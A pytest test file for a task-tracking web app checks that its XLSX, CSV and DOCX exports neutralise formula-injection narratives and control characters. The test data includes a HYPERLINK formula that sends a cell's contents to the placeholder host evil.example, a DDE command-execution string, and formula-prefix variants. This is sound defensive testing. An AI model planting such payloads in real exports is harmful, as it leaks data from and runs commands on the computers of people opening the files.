"""Exports others open cannot be turned into weapons, and survive any text already stored (issue 10 items 1, 2, 22).

The payloads are posted as real report narratives (API and page), then the files are downloaded and read back:
openpyxl for the workbook (and the sheet XML, which must hold no ``<f>``), ``csv`` for the CSV, python-docx for
the compilation. Control characters that can no longer be stored are written into the database directly, as
rows from before the rule would be.
"""

from __future__ import annotations

import csv
import datetime as dt
import html
import io
import re
import zipfile
from typing import Any

import docx
import pytest
import sqlalchemy as sa
from openpyxl import load_workbook

from tasktrack.extensions import db
from tasktrack.models import AssignmentStatus, CaseKind, CaseReport, CaseStatus, Plan, ProgressReport
from tasktrack.services import cases, units, users
from tasktrack.services.cases import CaseText
from tests.conftest import csrf_token, login
from tests.dashboard_data import NOW, small_plan

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&C2,"点击查看")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "＝1+1",
    "＋1",
    "－1",
    "＠A1",
]
NARRATIVE_COLUMN = 16  # 最新进展


@pytest.fixture
def office(app: Any, client: Any, make_user: Any) -> Any:
    """Return (small plan, post a report through the API as unit A's liaison); the client reads as a viewer."""
    s = small_plan()
    token = users.issue_token(s.liaison_a, actor=None, now=NOW)
    db.session.commit()
    viewer = make_user("viewer")
    assert login(client, viewer.email).status_code == 302

    def post(narrative: str) -> Any:
        return client.post(f"/api/v1/assignments/{s.a2.id}/reports", json={"status": "in_progress",
                                                                           "narrative": narrative},
                           headers={"Authorization": f"Bearer {token}"})

    return s, post


def xlsx_of(client: Any, plan_id: int) -> tuple[Any, bytes]:
    response = client.get(f"/plans/{plan_id}/export.xlsx")
    assert response.status_code == 200
    return load_workbook(io.BytesIO(response.data))["任务进展"], response.data


def sheet_xml(data: bytes) -> str:
    """Return every worksheet's XML (the 工作进展情况表 carries the narratives too)."""
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        return "".join(z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/sheet"))


def csv_rows(client: Any, plan_id: int) -> list[list[str]]:
    response = client.get(f"/plans/{plan_id}/export.csv")
    assert response.status_code == 200
    return list(csv.reader(io.StringIO(response.data.decode("utf-8-sig"), newline="")))


def narrative_cells(ws: Any) -> list[Any]:
    return [row[NARRATIVE_COLUMN - 1] for row in ws.iter_rows(min_row=2)]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_formula_narrative_is_text_in_both_exports(client: Any, office: Any, payload: str) -> None:
    s, post = office
    assert post(payload).status_code == 201
    ws, data = xlsx_of(client, s.plan.id)
    [cell] = [c for c in narrative_cells(ws) if c.value == payload]
    assert cell.data_type == "s"
    assert "<f>" not in sheet_xml(data)
    assert not re.search(r"<f[ >]", sheet_xml(data))
    rows = csv_rows(client, s.plan.id)
    assert ["'" + payload] == [r[-1] for r in rows if r[-1].endswith(payload)]
    # The pages still show exactly what was written.
    assert payload in html.unescape(client.get(f"/plans/{s.plan.id}/print").get_data(as_text=True))


def test_a_formula_typed_in_the_report_form_is_text_in_the_exports(client: Any, login_as: Any) -> None:
    s = small_plan()
    login_as("liaison", unit="甲单位")
    db.session.commit()
    payload = '=HYPERLINK("http://evil.example/?x="&C2,"点击查看")'
    path = f"/assignments/{s.a3.id}/report"
    response = client.post(path, data={"csrf_token": csrf_token(client, path), "status": "in_progress",
                                       "percent": "", "narrative": payload, "reason": "", "base_report_id": "",
                                       "supersedes_id": ""}, content_type="multipart/form-data")
    assert response.status_code == 302, response.get_data(as_text=True)
    ws, data = xlsx_of(client, s.plan.id)
    assert [c.data_type for c in narrative_cells(ws) if c.value == payload] == ["s"]
    assert "<f>" not in sheet_xml(data)
    assert ["'" + payload] == [r[-1] for r in csv_rows(client, s.plan.id) if r[-1].endswith(payload)]


def _stored(s: Any, narrative: str) -> None:
    """Store a report directly, as a row written before control characters were refused."""
    db.session.add(ProgressReport(assignment_id=s.a2.id, author_id=s.liaison_a.id, created_at=NOW,
                                  status=AssignmentStatus.IN_PROGRESS, narrative=narrative))
    db.session.commit()


@pytest.mark.parametrize("leading", ["\t", "\r"])
def test_a_stored_narrative_starting_with_tab_or_cr_is_neutralised_in_csv(client: Any, office: Any,
                                                                          leading: str) -> None:
    s, _ = office
    _stored(s, leading + "=1+1")
    assert ["'" + leading + "=1+1"] == [r[-1] for r in csv_rows(client, s.plan.id) if r[-1].endswith("=1+1")]
    ws, data = xlsx_of(client, s.plan.id)
    assert [c.data_type for c in narrative_cells(ws) if c.value and c.value.endswith("=1+1")] == ["s"]
    assert "<f>" not in sheet_xml(data)


def test_stored_control_characters_do_not_break_any_export(client: Any, office: Any) -> None:
    s, _ = office
    nul = "" if db.engine.dialect.name == "postgresql" else "\x00"  # PostgreSQL text cannot hold NUL at all
    _stored(s, f"甲{nul}乙\x01丙\x0b丁\x1f戊")
    ws, _ = xlsx_of(client, s.plan.id)
    expected = f"甲{chr(0xFFFD) if nul else ''}乙\ufffd丙\ufffd丁\ufffd戊"
    assert expected in [c.value for c in narrative_cells(ws)]
    assert expected in [r[-1] for r in csv_rows(client, s.plan.id)]
    page = client.get(f"/plans/{s.plan.id}/print")
    assert page.status_code == 200
    assert "丙" in page.get_data(as_text=True)


def test_a_stored_control_character_does_not_break_the_compilation(client: Any, seeded: None,
                                                                     make_user: Any, now: dt.datetime) -> None:
    plan = db.session.scalar(sa.select(Plan))
    liaison, office = make_user("liaison", unit="省民政厅"), make_user("secretariat")
    case = cases.submit_case(plan, units.find_unit("省民政厅"), CaseText(
        kind=CaseKind.POSITIVE, title="社区基金会透明运作", summary="摘要", body="第一段\n第二段"),
        actor=liaison, files=[], now=now)
    db.session.execute(sa.update(CaseReport).where(CaseReport.id == case.id).values(
        status=CaseStatus.FEATURED, feature_order=1, title="标题\x01", summary="摘要\x02",
        body="第一段\x01\n第二段\x0b"))
    db.session.commit()
    assert login(client, office.email).status_code == 302
    response = client.get("/cases/compilation.docx")
    assert response.status_code == 200
    texts = [p.text for p in docx.Document(io.BytesIO(response.data)).paragraphs]
    assert "案例1　标题\ufffd" in texts
    assert "摘要\ufffd" in texts
    assert "第一段\ufffd" in texts
    assert "第二段\ufffd" in texts


def test_csv_content_type_is_sent_once(client: Any, office: Any) -> None:
    s, _ = office
    response = client.get(f"/plans/{s.plan.id}/export.csv")
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    xlsx = client.get(f"/plans/{s.plan.id}/export.xlsx")
    assert xlsx.headers["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
